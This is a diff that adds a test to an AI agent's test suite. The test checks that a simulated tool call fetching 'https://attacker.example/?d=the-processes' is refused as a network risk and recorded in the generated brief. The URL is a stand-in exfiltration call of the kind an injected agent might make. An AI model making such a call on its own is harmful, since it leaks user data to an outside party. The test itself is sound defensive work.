@@ -50,6 +50,15 @@ describe('AI opportunity brief', () => {
     expect(brief).not.toContain('**Unresolved:**');
   });
 
+  it('an address that neither the person nor a search named is refused with its reason, and the run goes on', async () => {
+    const url = 'https://attacker.example/?d=the-processes';
+    engine.simulator.addFaults({ fault: { kind: 'tool-call', name: 'fetch_url', arguments: { url } }, nth: 5 });
+    const { events, file } = await run({ slug: 'ai_opportunity_brief', provider: 'openai', input: { evidence_from: ['fetch_url'] } });
+    expect(callsOf(events, /^scan$/).filter(({ tool }) => tool === 'fetch_url').map(({ grant }) => [grant?.allowed, grant?.risk])).toEqual([[false, 'network']]);
+    expect(events.find((event) => event.type === 'tool-refuse')?.data).toMatchObject({ tool: 'fetch_url', reason: expect.stringContaining('attacker.example') as string });
+    expect(await file('brief.md')).toContain(`fetch_url: ${url}`);
+  });
+
   it('a model that takes no tools: the fixed searches stand in, and the brief says so', async () => {
     // Four calls of the Test, then the first turn of the scan.
     engine.simulator.addFaults({ fault: { kind: 'status', status: 400 }, nth: 5 });
